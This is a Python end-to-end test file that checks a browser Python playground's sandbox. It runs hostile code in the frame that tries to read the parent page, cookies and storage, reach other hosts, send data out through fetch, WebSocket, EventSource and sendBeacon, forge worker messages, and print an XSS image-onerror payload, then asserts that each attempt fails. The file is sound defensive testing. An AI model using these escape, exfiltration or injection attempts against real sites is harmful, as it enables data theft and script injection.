"""A hostile program in the frame. Python can reach JavaScript there, so it stands for the worst of them."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Page, expect
from tests.e2e.conftest import PATIENCE_MS, Stack
from tests.e2e.playground import Playground

HOSTILE = """
import js

def get(url):
    request = js.XMLHttpRequest.new()
    request.open("GET", url, False)
    request.send()
    return request.status

for target, attempt in {attempts}:
    try:
        print("REACHED", target, eval(attempt))
    except BaseException as error:
        print("REFUSED", target, type(error).__name__, error)
"""

ATTEMPTS = {
    "the page around it": "js.parent.document.title",
    "the page's window": "js.top.location.href",
    "localStorage": "js.localStorage.length",
    "cookies": "js.document.cookie",
    "IndexedDB": "js.indexedDB.open('x')",
    "caches": "js.caches.open('x')",
    "the API": "get('{site}/api/languages')",
    "a deployment": "get('{edge}/')",
    "another host": "get('{elsewhere}/')",
    "a script of the site": "js.importScripts('{site}/assets/playground/playground.js')",
    "text as code": "js.eval('1 + 1')",
    "a script of its own making": "js.importScripts(js.URL.createObjectURL(js.Blob.new(['self.reached = 1'])))",
}

# What it sends without caring for an answer, and the time in which that would leave.
UNSEEN = """
import time
import js

for send in (
    lambda: js.fetch("{elsewhere}/fetch", method="POST", mode="no-cors"),
    lambda: js.WebSocket.new("{elsewhere}/socket".replace("http", "ws")),
    lambda: js.EventSource.new("{elsewhere}/events"),
    lambda: js.navigator.sendBeacon("{elsewhere}/beacon"),
):
    try:
        send()
    except BaseException as error:
        print(type(error).__name__)
time.sleep(1)
"""

FORGED = """
import js
from pyodide.ffi import to_js

for report in (
    None,
    {"type": "ended"},
    {"type": "ended", "ending": {"how": "exited", "code": "0"}, "milliseconds": 1},
    {"type": "output", "stream": "elsewhere", "bytes": 1},
    {"type": "ready", "isolated": True},
):
    js.postMessage(to_js(report, dict_converter=js.Object.fromEntries))
print("<img src=x onerror=alert(1)>")
"""


@pytest.fixture(params=["served by the edge", "made by the page"])
def playground(request: pytest.FixtureRequest, page: Page, stack: Stack) -> Playground:
    """With each of the two frames that there are."""
    page.set_default_timeout(PATIENCE_MS)
    served = request.param == "served by the edge"
    return Playground(page, stack.url if served else request.getfixturevalue("static_site"))


@pytest.fixture
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """A host that is neither the site nor the edge, and what was asked of it."""
    asked: list[str] = []

    class Listener(BaseHTTPRequestHandler):
        def handle_one_request(self) -> None:
            asked.append(self.rfile.readline(1024).decode(errors="replace"))

    with ThreadingHTTPServer(("127.0.0.1", 0), Listener) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}", asked
        server.shutdown()


def _run(playground: Playground, source: str) -> None:
    playground.open("python/hello")
    playground.write(source)
    playground.run()
    playground.expect_ended()


def test_hostile_python_reaches_nothing(
    playground: Playground, elsewhere: tuple[str, list[str]], frame_url: str, subtests: pytest.Subtests
) -> None:
    edge = frame_url.replace("frame.", "someone-else.")
    places = {"site": playground.url, "edge": edge, "elsewhere": elsewhere[0]}
    attempts = [(target, attempt.format(**places)) for target, attempt in ATTEMPTS.items()]
    _run(playground, HOSTILE.format(attempts=attempts))
    for target in ATTEMPTS:
        with subtests.test(target):
            expect(playground.output).to_contain_text(f"REFUSED {target}")
    assert elsewhere[1] == []


def test_what_the_frame_itself_is_made_of_can_be_reached(page: Page, stack: Stack, frame_url: str) -> None:
    """So the refusals above are the frame's policy, not a program that fails whatever it asks for."""
    playground = Playground(page, stack.url)
    _run(playground, HOSTILE.format(attempts=[("the frame", f"get('{frame_url}/frame.html')")]))
    expect(playground.output).to_have_text("REACHED the frame 200\n")


def test_hostile_python_cannot_send_anything_out(playground: Playground, elsewhere: tuple[str, list[str]]) -> None:
    url, asked = elsewhere
    _run(playground, UNSEEN.format(elsewhere=url))
    assert asked == []


def test_forged_reports_harm_nothing(playground: Playground, page: Page) -> None:
    """The program takes its worker over and says what it likes; the page believes only what a run may say."""
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    _run(playground, FORGED)
    expect(playground.output).to_have_text("<img src=x onerror=alert(1)>\n")
    assert playground.output.locator("img").count() == 0
    assert errors == []
